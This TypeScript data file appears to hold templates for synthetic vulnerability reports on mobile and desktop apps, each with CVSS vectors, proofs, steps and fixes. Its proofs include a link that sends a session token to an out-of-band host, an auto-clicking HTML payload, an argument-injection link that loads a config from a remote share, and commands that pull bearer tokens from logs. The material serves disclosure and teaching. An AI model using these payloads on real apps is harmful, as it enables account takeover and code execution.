import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Weaknesses in software on the user's phone or computer. */
export const appWriteUps: readonly WriteUp[] = [
  {
    key: "deep-link",
    cwe: 441,
    kinds: ["mobile"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:L/A:N",
      "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N",
    ],
    titles: [
      "Deep link of the {feature} acts without asking",
      "`{path}` loads any page into the signed-in web view",
      "{feature}: other apps can use it as a deputy",
    ],
    summaries: [
      "The link `{path}` performs its action at once, with `{param}` from the link. A web page may contain such a link and open it by itself.",
      "The {feature} opens the page that the link names in a web view that carries the session header.",
      "The activity behind `{path}` is exported. Any app on the telephone can start it and gets the result back.",
    ],
    details: [
      'The host is compared with `endsWith("{host}")`, so `evil{host}` is fine.',
      "Tested with {version} on a telephone without root, {browser} as default.",
    ],
    proofs: [
      fenced("console", "$ adb shell am start -a android.intent.action.VIEW \\", "    -d '{path}?{param}=https://{oob}/'"),
      fenced("html", '<a href="{path}?{param}={token}">You have won</a>', "<script>document.links[0].click()</script>"),
    ],
    steps: [
      [
        "Sign in to the {feature}.",
        "Open the page above on the same telephone.",
        "The action happens without a question, or the header with the token arrives at `{oob}`.",
      ],
    ],
    impacts: [
      "Following a link is enough to lose the session.",
      "Actions in the name of the user, started by a page or an app that should not be able to.",
    ],
    fixes: ["Show what the link wants and ask; attach the header to your own exact hosts only."],
  },
  {
    key: "insecure-storage",
    cwe: 922,
    kinds: ["mobile"],
    vectors: [
      "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N",
      "CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
      "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:L/I:N/A:N",
    ],
    titles: [
      "{feature} keeps its refresh token in a backup",
      "Token and {param} appear in the system log",
      "Screenshots of the {feature} are kept by the app switcher",
    ],
    summaries: [
      "The token of the {feature} is kept in plain shared preferences, and backups are allowed. A backup to a computer contains it.",
      "Every request is written to the system log with its headers. On older systems other apps can read that log.",
    ],
    details: [
      "The key store is used for the PIN, but the token that the PIN protects lies beside it.",
      "Version {version}, a telephone as it comes out of the box.",
    ],
    proofs: [fenced("console", "$ adb logcat | grep -i bearer", "D/OkHttp: Authorization: Bearer eyJhbGciOi…{token}")],
    steps: [["Connect the telephone with debugging on.", "Use the {feature}.", "Read the log, or make a backup and unpack it."]],
    impacts: [
      "Somebody who has the telephone for a minute, or its backup for ever, has the account.",
      "Local only, but the token never expires.",
    ],
    fixes: ["Use the key store, exclude it from backups, and log nothing in release builds."],
  },
  {
    key: "tls-validation",
    cwe: 295,
    kinds: ["mobile", "binary", "device"],
    vectors: [
      "CVSS:3.1/AV:A/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",
      "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",
      "CVSS:4.0/AV:A/AC:L/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:L/SI:L/SA:N",
    ],
    titles: [
      "{feature} accepts any certificate",
      "Host name is not checked by the {feature}: man in the middle",
      "{feature} falls back to plain HTTP when TLS fails",
    ],
    summaries: [
      "The {feature} speaks TLS and takes every certificate, also one that I signed a minute ago.",
      "The chain is checked, the name is not: a valid certificate for *my* domain is good enough for yours.",
      "If the handshake fails three times, the {feature} tries again without TLS, without telling anybody.",
    ],
    details: [
      "There is an empty `checkServerTrusted`; by its comment it was meant for the test environment.",
      "Only the second connection is affected, the one that fetches `{param}`.",
    ],
    proofs: [
      fenced(
        "console",
        "$ mitmproxy --mode transparent --showhost",
        "GET https://{host}/v1/sync",
        "  authorization: Bearer {token}…",
      ),
    ],
    steps: [
      [
        "Put the device into a network whose traffic you can redirect.",
        "Start a proxy with a certificate of its own, *without* installing it on the device.",
        "Use the {feature}: the traffic is readable.",
      ],
    ],
    impacts: [
      "In a hotel, somebody reads and changes everything.",
      "Credentials and updates pass through the hands of whoever runs the network.",
    ],
    fixes: ["Use the system's check. Do not write your own."],
  },
  {
    key: "heap-overflow",
    cwe: 122,
    kinds: ["binary", "native"],
    vectors: [
      "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",
      "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:H",
    ],
    titles: [
      "Heap overflow in the {feature} when `{param}` is longer than announced",
      "Out-of-bounds write in {path}: length is checked as signed",
      "Crash of the {feature} with a crafted file, 8 bytes controlled",
    ],
    summaries: [
      "A length field in the file is read as a signed number and compared with a maximum. A negative one is smaller than any maximum and becomes very large afterwards.",
      "The {feature} allocates room for `{param}` from one field and copies by another. If they differ, it writes behind the end.",
      "A file of 212 bytes crashes the {feature}. With the address sanitiser it is a write of 8 bytes whose value stands in the file.",
    ],
    details: [
      "I have not written an exploit. The write goes behind a block of a size that I choose, which usually is enough.",
      "Found by fuzzing for {n} hours; the file attached is the smallest one.",
    ],
    proofs: [
      fenced(
        "text",
        "==4711==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x6020000{id}",
        "WRITE of size 8 at 0x6020000{id} thread T0",
        "    #0 copy_field src/parse.c:{n}",
        "    #1 read_block src/parse.c:118",
        "0x6020000{id} is located 0 bytes after 64-byte region",
      ),
      fenced(
        "c",
        "int32_t len = read_i32(in);",
        "if (len > MAX) return -1;      /* -1 passes */",
        "memcpy(buf, in->p, (size_t)len); /* 2^64 - 1 */",
      ),
    ],
    steps: [
      [
        "Build with `-fsanitize=address`, or start the released program under a debugger.",
        "Open the attached file.",
        "Read the message above.",
      ],
    ],
    impacts: ["Opening a file runs code of whoever made it.", "At the least a crash; with some work more."],
    fixes: ["Read lengths as unsigned and compare with what is left of the input."],
  },
  {
    key: "search-path",
    cwe: 426,
    kinds: ["binary"],
    vectors: ["CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", "CVSS:3.1/AV:L/AC:L/PR:L/UI:R/S:U/C:H/I:H/A:H"],
    titles: [
      "{path} loads `version.dll` from the folder of the opened file",
      "Local privilege escalation: service of the {feature} searches a writable folder",
      "Unquoted path of the {feature} service",
    ],
    summaries: [
      "When started by a double click on a document, the {feature} looks for a library in that document's folder first.",
      "The service runs as SYSTEM and loads an OpenSSL configuration from `C:\\usr\\local\\ssl`, a folder that every user may create.",
    ],
    details: [
      "Seen with Process Monitor: `NAME NOT FOUND` for four libraries before the right one is found.",
      "The installer sets rights on its own folder correctly; this one it does not know.",
    ],
    proofs: [
      fenced(
        "text",
        "{path}   CreateFile   D:\\share\\version.dll   NAME NOT FOUND",
        "{path}   CreateFile   C:\\Windows\\System32\\version.dll   SUCCESS",
      ),
    ],
    steps: [
      [
        "Put a library of that name, which shows a message box, beside a document.",
        "Open the document.",
        "The message box appears.",
      ],
    ],
    impacts: ["Opening a document from a share runs code.", "An ordinary user becomes SYSTEM."],
    fixes: ["`SetDefaultDllDirectories`, and build the library with a path that only administrators may write."],
  },
  {
    key: "argument-injection",
    cwe: 74,
    kinds: ["binary"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H", "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:H"],
    titles: [
      "A link on a web page starts the {feature} with options of its choice",
      "`{param}` of the {feature} is taken for an option",
      "Protocol handler: quote in the address ends the argument",
    ],
    summaries: [
      "The {feature} registers a scheme and receives the address as an argument. A quote in the address ends the argument, and what follows is read as options.",
      "A value of `{param}` that begins with `--` is not a value any more.",
    ],
    details: ["`--inspect-brk` or `--config` with a network path is enough to run code."],
    proofs: [fenced("html", `<a href='app:x" --config="\\\\{oob}\\s\\c.json'>open</a>`)],
    steps: [
      [
        "Install the {feature}.",
        "Open the page above and allow the program to start.",
        "It loads the configuration from my share.",
      ],
    ],
    impacts: ["A click in the browser, one confirmation, and a program of mine runs."],
    fixes: ["End options with `--`, and validate the address before."],
  },
];
